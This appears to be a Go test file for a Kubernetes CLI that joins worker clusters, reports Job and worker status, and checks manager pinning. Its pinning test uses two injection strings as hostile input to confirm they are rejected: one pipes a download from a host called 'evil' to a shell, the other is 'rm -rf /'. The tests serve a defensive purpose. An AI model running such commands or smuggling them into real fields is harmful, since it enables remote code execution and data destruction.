package main

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"strings"
	"testing"
	"time"

	batchv1 "k8s.io/api/batch/v1"
	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/cli-runtime/pkg/genericiooptions"
	"k8s.io/client-go/tools/clientcmd"
	"k8s.io/utils/ptr"

	v1alpha1 "github.com/jobferry/jobferry/api/v1alpha1"
	"github.com/jobferry/jobferry/internal/jobstatus"
)

func TestHelpListsEveryCommand(t *testing.T) {
	var out bytes.Buffer
	root := newRootCommand(genericiooptions.IOStreams{Out: &out, ErrOut: &out})
	root.SetArgs([]string{"--help"})
	if err := root.Execute(); err != nil {
		t.Fatal(err)
	}
	for _, cmd := range []string{"join", "status", "get", "describe", "logs", "cordon", "uncordon"} {
		if !strings.Contains(out.String(), "\n  "+cmd+" ") {
			t.Errorf("--help does not list %s:\n%s", cmd, out.String())
		}
	}
	for _, flag := range []string{"--kubeconfig", "--context", "--namespace"} {
		if !strings.Contains(out.String(), flag) {
			t.Errorf("--help lacks the kubectl flag %s", flag)
		}
	}
}

func TestJoinRefusesBadInputBeforeTouchingAnyCluster(t *testing.T) {
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"join", "Bad_Name", "--worker-context", "w"}, "not a valid WorkerCluster name"},
		{[]string{"join", "w1", "--worker-context", "w", "--token-lifetime", "5m"}, "shorter than the 10m"},
		{[]string{"join", "w1", "--worker-context", "w", "--job-controller", "Kcm"}, "--job-controller must be Builtin or Worker"},
		{[]string{"join", "w1"}, `required flag(s) "worker-context" not set`},
		{[]string{"join", "w1", "--worker-context", "w", "--kubeconfig", "/nonexistent/kubeconfig"}, "/nonexistent/kubeconfig"},
		{[]string{"join", "w1", "--worker-context", "nowhere", "--kubeconfig", kubeconfigFile(t)}, `the kubeconfig has no context "nowhere" (--worker-context); it has: manager`},
	} {
		var out bytes.Buffer
		root := newRootCommand(genericiooptions.IOStreams{Out: &out, ErrOut: &out})
		root.SetArgs(tc.args)
		err := root.Execute()
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%q: error %v, want it to say %q", tc.args, err, tc.want)
		}
	}
}

func kubeconfigFile(t *testing.T) string {
	t.Helper()
	data, err := workerKubeconfig("manager", "https://127.0.0.1:1", []byte("CA"), "admin", "T")
	if err != nil {
		t.Fatal(err)
	}
	path := t.TempDir() + "/kubeconfig"
	if err := os.WriteFile(path, data, 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestJoinObjects(t *testing.T) {
	kubeconfig, err := workerKubeconfig("gpu-east", "https://10.0.0.1:6443", []byte("CA"), "jobferry-manager", "TOKEN")
	if err != nil {
		t.Fatal(err)
	}
	cfg, err := clientcmd.Load(kubeconfig)
	if err != nil {
		t.Fatal(err)
	}
	kctx := cfg.Contexts[cfg.CurrentContext]
	if cfg.Clusters[kctx.Cluster].Server != "https://10.0.0.1:6443" || string(cfg.Clusters[kctx.Cluster].CertificateAuthorityData) != "CA" || cfg.AuthInfos[kctx.AuthInfo].Token != "TOKEN" {
		t.Errorf("the kubeconfig is not self-contained: %+v", cfg)
	}

	secret, wc := joinObjects("gpu-east", "jobferry-system", nil, kubeconfig, []string{"team-a"}, "")
	if secret.Namespace != "jobferry-system" || secret.Name != "gpu-east-kubeconfig" || !bytes.Equal(secret.Data["kubeconfig"], kubeconfig) {
		t.Errorf("secret %s/%s with keys %v", secret.Namespace, secret.Name, secret.Data)
	}
	if wc.Name != "gpu-east" || wc.Spec.KubeConfig.SecretRef.Name != secret.Name || wc.Spec.KubeConfig.SecretRef.Key != "kubeconfig" ||
		len(wc.Spec.Namespaces) != 1 || wc.Spec.JobController != "" {
		t.Errorf("new WorkerCluster %+v", wc.Spec)
	}

	// Joining again keeps what was set on the WorkerCluster besides the
	// credential: its Secret name and key, scheduling, cordon, labels.
	existing := &v1alpha1.WorkerCluster{
		ObjectMeta: metav1.ObjectMeta{Name: "gpu-east", ResourceVersion: "7", Labels: map[string]string{"region": "east"}},
		Spec: v1alpha1.WorkerClusterSpec{
			KubeConfig: v1alpha1.KubeConfigSource{SecretRef: v1alpha1.SecretKeyRef{Name: "custom", Key: "cfg"}},
			Cordoned:   true, JobController: v1alpha1.JobControllerWorker,
			Scheduling: v1alpha1.SchedulingDirectives{NodeSelector: map[string]string{"pool": "batch"}},
		},
	}
	secret, wc = joinObjects("gpu-east", "jobferry-system", existing, kubeconfig, nil, "")
	if secret.Name != "custom" || secret.Data["cfg"] == nil || wc.Labels["region"] != "east" || !wc.Spec.Cordoned ||
		wc.Spec.JobController != v1alpha1.JobControllerWorker || wc.Spec.Scheduling.NodeSelector["pool"] != "batch" || wc.ResourceVersion != "7" {
		t.Errorf("joining again changed more than the credential: secret %s, WorkerCluster %+v", secret.Name, wc)
	}
	if _, wc = joinObjects("gpu-east", "jobferry-system", existing, kubeconfig, nil, v1alpha1.JobControllerBuiltin); wc.Spec.JobController != v1alpha1.JobControllerBuiltin {
		t.Errorf("--job-controller did not apply: %s", wc.Spec.JobController)
	}
	if existing.Spec.JobController != v1alpha1.JobControllerWorker {
		t.Error("joinObjects modified the WorkerCluster it was given")
	}
}

func TestNamespacesOf(t *testing.T) {
	sa := &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Annotations: map[string]string{NamespacesAnnotation: "team-b, team-a,,"}}}
	if got := namespacesOf(sa); len(got) != 2 || got[0] != "team-a" || got[1] != "team-b" {
		t.Errorf("namespacesOf = %q", got)
	}
	if got := namespacesOf(&corev1.ServiceAccount{}); got != nil {
		t.Errorf("a ServiceAccount without the annotation gave %q", got)
	}
}

func condition(t batchv1.JobConditionType) batchv1.JobCondition {
	return batchv1.JobCondition{Type: t, Status: corev1.ConditionTrue}
}

func TestJobRow(t *testing.T) {
	now := time.Date(2026, 11, 24, 12, 0, 0, 0, time.UTC)
	created := metav1.NewTime(now.Add(-10 * time.Minute))
	start := metav1.NewTime(now.Add(-9 * time.Minute))
	done := metav1.NewTime(now.Add(-7 * time.Minute))
	placed := func(j *batchv1.Job) *batchv1.Job {
		j.Spec.ManagedBy = ptr.To(v1alpha1.ManagerManagedBy)
		j.Annotations = map[string]string{v1alpha1.WorkerAnnotation: "worker-2", v1alpha1.DispatchAttemptAnnotation: "3"}
		return j
	}
	for _, tc := range []struct {
		name string
		job  *batchv1.Job
		want jobRow
	}{
		{"complete on a worker", placed(&batchv1.Job{
			ObjectMeta: metav1.ObjectMeta{Namespace: "a", Name: "j", CreationTimestamp: created},
			Spec:       batchv1.JobSpec{Completions: ptr.To[int32](4)},
			Status:     batchv1.JobStatus{Succeeded: 4, StartTime: &start, CompletionTime: &done, Conditions: []batchv1.JobCondition{condition(batchv1.JobSuccessCriteriaMet), condition(batchv1.JobComplete)}},
		}), jobRow{Namespace: "a", Name: "j", Status: "Complete", Completions: "4/4", Duration: "2m", Age: "10m", Worker: "worker-2", Attempt: "3", Dispatched: "yes"}},
		{"waiting, not dispatched by jobferry", &batchv1.Job{
			ObjectMeta: metav1.ObjectMeta{Namespace: "a", Name: "k", CreationTimestamp: created},
			Spec:       batchv1.JobSpec{Parallelism: ptr.To[int32](3)},
			Status:     batchv1.JobStatus{Conditions: []batchv1.JobCondition{condition(batchv1.JobSuspended)}},
		}, jobRow{Namespace: "a", Name: "k", Status: "Suspended", Completions: "0/1 of 3", Age: "10m", Worker: "<none>", Attempt: "<none>", Dispatched: "no"}},
		{"running", placed(&batchv1.Job{
			ObjectMeta: metav1.ObjectMeta{Namespace: "a", Name: "r", CreationTimestamp: created},
			Status:     batchv1.JobStatus{Active: 1, StartTime: &start},
		}), jobRow{Namespace: "a", Name: "r", Status: "Running", Completions: "0/1", Duration: "9m", Age: "10m", Worker: "worker-2", Attempt: "3", Dispatched: "yes"}},
		{"failed", placed(&batchv1.Job{
			ObjectMeta: metav1.ObjectMeta{Namespace: "a", Name: "f", CreationTimestamp: created},
			Status:     batchv1.JobStatus{Failed: 1, Conditions: []batchv1.JobCondition{condition(batchv1.JobFailureTarget), condition(batchv1.JobFailed)}},
		}), jobRow{Namespace: "a", Name: "f", Status: "Failed", Completions: "0/1", Age: "10m", Worker: "worker-2", Attempt: "3", Dispatched: "yes"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := jobRowOf(tc.job, now); got != tc.want {
				t.Errorf("\n got %+v\nwant %+v", got, tc.want)
			}
		})
	}
}

func TestBuildStatus(t *testing.T) {
	now := time.Date(2026, 11, 24, 12, 0, 0, 0, time.UTC)
	expires := metav1.NewTime(now.Add(23 * time.Hour))
	workers := []v1alpha1.WorkerCluster{
		{ObjectMeta: metav1.ObjectMeta{Name: "worker-2"}, Spec: v1alpha1.WorkerClusterSpec{Cordoned: true}},
		{ObjectMeta: metav1.ObjectMeta{Name: "worker-1"}, Status: v1alpha1.WorkerClusterStatus{
			Conditions: []metav1.Condition{
				{Type: v1alpha1.ConditionConnected, Status: metav1.ConditionTrue, Reason: v1alpha1.ReasonConnected},
				{Type: v1alpha1.ConditionAuthorized, Status: metav1.ConditionTrue, Reason: v1alpha1.ReasonAuthorized},
				{Type: v1alpha1.ConditionCredentialRenewal, Status: metav1.ConditionFalse, Reason: v1alpha1.ReasonCredentialExpiring},
			},
			Credential: &v1alpha1.CredentialStatus{ExpiresAt: &expires},
			Capacity: &v1alpha1.ClusterCapacityStatus{Pools: []v1alpha1.NodePool{{Name: "general", Nodes: 2,
				Allocatable: corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("16"), "example.com/gpu": resource.MustParse("8")},
				Free:        corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("10")}}}},
		}},
	}
	managed := func(name, worker string, status batchv1.JobStatus) batchv1.Job {
		j := batchv1.Job{ObjectMeta: metav1.ObjectMeta{Name: name, Annotations: map[string]string{}}, Spec: batchv1.JobSpec{ManagedBy: ptr.To(v1alpha1.ManagerManagedBy)}, Status: status}
		if worker != "" {
			j.Annotations[v1alpha1.WorkerAnnotation] = worker
		}
		return j
	}
	jobs := []batchv1.Job{
		managed("a", "worker-1", batchv1.JobStatus{Active: 1}),
		managed("b", "worker-1", batchv1.JobStatus{Conditions: []batchv1.JobCondition{condition(batchv1.JobComplete)}}),
		managed("c", "worker-1", batchv1.JobStatus{Conditions: []batchv1.JobCondition{condition(batchv1.JobFailed)}}),
		managed("d", "worker-1", batchv1.JobStatus{}),
		managed("e", "", batchv1.JobStatus{}),
		{ObjectMeta: metav1.ObjectMeta{Name: "not-dispatched", Annotations: map[string]string{v1alpha1.WorkerAnnotation: "worker-1"}}},
	}
	renewed := metav1.NewMicroTime(now.Add(-3 * time.Second))
	lease := &coordinationv1.Lease{Spec: coordinationv1.LeaseSpec{HolderIdentity: ptr.To("replica-a"), RenewTime: &renewed, LeaseDurationSeconds: ptr.To[int32](15)}}
	pods := []corev1.Pod{
		{Status: corev1.PodStatus{Conditions: []corev1.PodCondition{{Type: corev1.PodReady, Status: corev1.ConditionTrue}}}},
		{Status: corev1.PodStatus{Conditions: []corev1.PodCondition{{Type: corev1.PodReady, Status: corev1.ConditionFalse}}}},
	}
	r := buildStatus(workers, jobs, lease, pods, now)
	if r.Manager.Leader != "replica-a" || !r.Manager.LeaderCurrent || r.Manager.Pods != 2 || r.Manager.ReadyPods != 1 {
		t.Errorf("manager %+v", r.Manager)
	}
	if len(r.Workers) != 2 || r.Workers[0].Name != "worker-1" || r.Workers[1].Name != "worker-2" {
		t.Fatalf("workers %+v", r.Workers)
	}
	w1, w2 := r.Workers[0], r.Workers[1]
	if w1.Connected != "True" || w1.ConnectedReason != v1alpha1.ReasonConnected || w1.Authorized != "True" || w1.Cordoned ||
		w1.CredentialRenewal != v1alpha1.ReasonCredentialExpiring || !w1.CredentialExpiresAt.Equal(&expires) {
		t.Errorf("worker-1 %+v", w1)
	}
	if want := map[string]int{jobstatus.PhaseRunning: 1, jobstatus.PhaseSucceeded: 1, jobstatus.PhaseFailed: 1, jobstatus.PhasePending: 1}; !equalCounts(w1.Jobs, want) {
		t.Errorf("worker-1 Jobs %v, want %v (the Job not dispatched by jobferry is not counted)", w1.Jobs, want)
	}
	if len(w1.Pools) != 1 || w1.Pools[0].Free["cpu"] != "10" || w1.Pools[0].Allocatable["example.com/gpu"] != "8" {
		t.Errorf("worker-1 pools %+v", w1.Pools)
	}
	if w2.Connected != "Unknown" || !w2.Cordoned || len(w2.Jobs) != 0 || w2.CredentialExpiresAt != nil {
		t.Errorf("worker-2 %+v", w2)
	}
	if !equalCounts(r.UnplacedJobs, map[string]int{jobstatus.PhasePending: 1}) {
		t.Errorf("unplaced %v", r.UnplacedJobs)
	}
	var out bytes.Buffer
	printStatus(&out, r, now)
	for _, want := range []string{"leader: replica-a (renewed 3s ago); 1/2 pods ready", "True (Connected)", "(in 23h) CredentialExpiring", "general", "10/16", "example.com/gpu 0/8", "Jobs on no worker yet: Pending 1"} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("the table lacks %q:\n%s", want, out.String())
		}
	}
	expired := buildStatus(nil, nil, lease, nil, now.Add(time.Minute))
	if expired.Manager.LeaderCurrent {
		t.Error("a Lease not renewed for a minute counted as current")
	}
}

func equalCounts(a, b map[string]int) bool {
	if len(a) != len(b) {
		return false
	}
	for k, v := range a {
		if b[k] != v {
			return false
		}
	}
	return true
}

func TestCheckPinned(t *testing.T) {
	pinnedTo := func(id string) *corev1.ServiceAccount {
		sa := &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"app.kubernetes.io/instance": "jf-worker"}}}
		if id != "none" {
			sa.Annotations = map[string]string{ManagerIDAnnotation: id}
		}
		return sa
	}
	pin := (&joinOptions{workerContext: "gpu-east", workerNamespace: "jobferry-system", workerKubeconfig: "/home/me/east.kubeconfig"}).pinCommand("worker-2")
	ours := managerID{namespace: "jobferry-system", id: "0123456789abcdef"}
	unreadable := managerID{unreadable: errors.New(`namespaces is forbidden: User "joiner" cannot list resource "namespaces"`)}
	for _, tc := range []struct {
		name              string
		sa                *corev1.ServiceAccount
		manager           managerID
		wantWarn, wantErr string
	}{
		{name: "pinned to this manager", sa: pinnedTo("0123456789abcdef"), manager: ours},
		{name: "not pinned", sa: pinnedTo("none"), manager: ours,
			wantWarn: "is not pinned to this manager (ID 0123456789abcdef, of namespace jobferry-system): its admission policies let the manager identity write Jobs, and relabel namespaces, in any jobferry manager's namespaces there. Pin it with\n" +
				"  helm upgrade jf-worker <chart> -n jobferry-system --kube-context gpu-east --kubeconfig /home/me/east.kubeconfig --reset-then-reuse-values --set-string managerIdentity.managerID=0123456789abcdef --set-string workerName=worker-2"},
		{name: "pinned to another manager", sa: pinnedTo("fedcba9876543210"), manager: ours,
			wantErr: "is pinned to manager fedcba9876543210, not to this one (ID 0123456789abcdef, of namespace jobferry-system: is --jobferry-namespace the manager's?): its admission policies would refuse every mirror this manager creates there. This manager needs an identity of its own there; pinning this one to it instead (helm upgrade jf-worker"},
		{name: "pinned to no ID", sa: pinnedTo("x\x1b[2J; curl evil | sh"), manager: ours,
			wantErr: `is pinned to "x\x1b[2J; curl evil | sh", which is no manager's installation ID`},
		{name: "pinned to the empty ID", sa: pinnedTo(""), manager: ours,
			wantErr: `is pinned to "", which is no manager's installation ID`},
		{name: "pinned, this manager's ID unreadable", sa: pinnedTo("fedcba9876543210"), manager: unreadable,
			wantWarn: "is pinned to manager fedcba9876543210; this manager's ID could not be read to compare (namespaces is forbidden"},
		{name: "not pinned, this manager's ID unreadable", sa: pinnedTo("none"), manager: unreadable,
			wantWarn: "is not pinned to a manager (managerIdentity.managerID), and this manager's ID could not be read to name it"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			warning, err := checkPinned(tc.sa, pin, tc.manager)
			if (tc.wantWarn == "") != (warning == "") || !strings.Contains(warning, tc.wantWarn) {
				t.Errorf("warning %q, want one saying %q", warning, tc.wantWarn)
			}
			if (tc.wantErr == "") != (err == nil) || (err != nil && !strings.Contains(err.Error(), tc.wantErr)) {
				t.Errorf("error %v, want one saying %q", err, tc.wantErr)
			}
			if msg := warning + fmt.Sprint(err); (warning != "" || err != nil) && !strings.Contains(msg, "context gpu-east") {
				t.Errorf("%q does not name the worker's context", msg)
			}
		})
	}
	// A release label that is no release name is not printed.
	sa := pinnedTo("none")
	sa.Labels["app.kubernetes.io/instance"] = "a b; rm -rf /"
	if got := pin.forID(sa, "0123456789abcdef"); !strings.HasPrefix(got, "helm upgrade jobferry-worker <chart>") {
		t.Errorf("forID = %q, want the default release name", got)
	}
}
